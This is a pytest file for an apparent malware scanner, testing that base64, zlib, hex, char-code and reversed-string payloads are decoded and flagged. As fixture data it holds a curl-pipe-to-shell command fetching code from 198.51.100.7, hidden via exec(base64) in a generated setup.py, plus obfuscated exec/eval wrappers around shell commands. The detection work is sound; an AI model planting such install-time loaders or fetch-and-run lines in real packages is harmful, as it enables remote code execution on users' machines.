"""Encoded payloads decoded into child objects, as users see them (the decoders themselves have
Rust unit and snapshot tests in the core)."""

from __future__ import annotations

import base64
import json
import zlib
from pathlib import Path

import jsonschema

import malwi

from .conftest import ROOT, run_malwi

SCHEMA = json.loads((ROOT / "data" / "schemas" / "analysis_result_schema.json").read_text())
PAYLOAD = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"


def test_exec_of_base64_shows_the_decoded_payload_and_its_behaviour(tmp_path: Path) -> None:
    encoded = base64.b64encode(PAYLOAD.encode()).decode()
    (tmp_path / "setup.py").write_text(f"import base64\nexec(base64.b64decode('{encoded}'))\n")
    result = run_malwi("scan", str(tmp_path), "--format", "json", "--threshold", "0.0")
    document = json.loads(result.stdout)
    jsonschema.validate(document, SCHEMA)
    decoded = [o for f in document["files"] for o in f["objects"] if o["name"] == "<decoded:L2>"]
    assert decoded, document["files"]
    assert decoded[0]["decoded_from"] == "base64" and "PROCESS_MANAGEMENT" in decoded[0]["activities"]
    assert decoded[0]["source"] == PAYLOAD and decoded[0]["lines"] == [2, 2]
    text = run_malwi("scan", str(tmp_path), "--threshold", "0.0").stdout.decode()
    assert (
        "setup.py:2-2  <decoded:L2> (module)" in text
        and "is code hidden in a string literal (base64)" in text
    )


def test_nested_layers_and_bytes_literals() -> None:
    layer = PAYLOAD.encode()
    for _ in range(20):
        layer = base64.b64encode(zlib.compress(layer))
    objects = malwi.compile_source(f"exec(zlib.decompress(base64.b64decode({layer!r})))\n", "python")
    decoded = [o for o in objects if o.decoded_from]
    assert [o.name for o in decoded] == ["<decoded:L1>"]
    assert decoded[0].decoded_from == " > ".join(["base64", "zlib"] * 20)
    assert "PROCESS_MANAGEMENT" in decoded[0].activities()
    raw = zlib.compress(PAYLOAD.encode())
    objects = malwi.compile_source(f"import zlib\nexec(zlib.decompress({raw!r}))\n", "python")
    assert [o.decoded_from for o in objects if o.decoded_from] == ["zlib"]


def test_javascript_atob_and_ordinary_strings() -> None:
    code = "require('child_process').exec('id')"
    source = f'eval(atob("{base64.b64encode(code.encode()).decode()}"));\nconst key = "c2VjcmV0X3Rva2VuXzEyMzQ1Njc4OTA=";\n'
    objects = malwi.compile_source(source, "javascript")
    decoded = [o for o in objects if o.decoded_from]
    assert len(decoded) == 1 and decoded[0].name == "<decoded:L1>" and decoded[0].language == "javascript"
    assert "PROCESS_MANAGEMENT" in decoded[0].activities()
    # The base64 key decodes to a word, not code: no object for it.
    assert all(o.name != "<decoded:L2>" for o in objects)


def test_payloads_built_from_literals_are_folded_then_decoded() -> None:
    code = "import os; os.system('id')"
    codes = ", ".join(str(ord(c)) for c in code)
    source = (
        f"exec(''.join(chr(c) for c in [{codes}]))\n"
        f"exec(bytes.fromhex('{code.encode().hex()}').decode())\n"
        f"exec({code[::-1]!r}[::-1])\n"
        "message = 'def f():\\n' + '    return 1\\n'\n"  # code merely concatenated: not a payload
    )
    decoded = [o for o in malwi.compile_source(source, "python") if o.decoded_from]
    assert [(o.name, o.decoded_from) for o in decoded] == [(f"<decoded:L{n}>", "folded") for n in (1, 2, 3)]
    assert all("PROCESS_MANAGEMENT" in o.activities() for o in decoded)
    js = "require('child_process').exec('id')"
    source = f"eval(String.fromCharCode({', '.join(str(ord(c)) for c in js)}));\neval(unescape('{''.join(f'%{ord(c):02x}' for c in js)}'));\n"
    decoded = [o for o in malwi.compile_source(source, "javascript") if o.decoded_from]
    assert [o.name for o in decoded] == ["<decoded:L1>", "<decoded:L2>"]
    assert all("PROCESS_MANAGEMENT" in o.activities() for o in decoded)
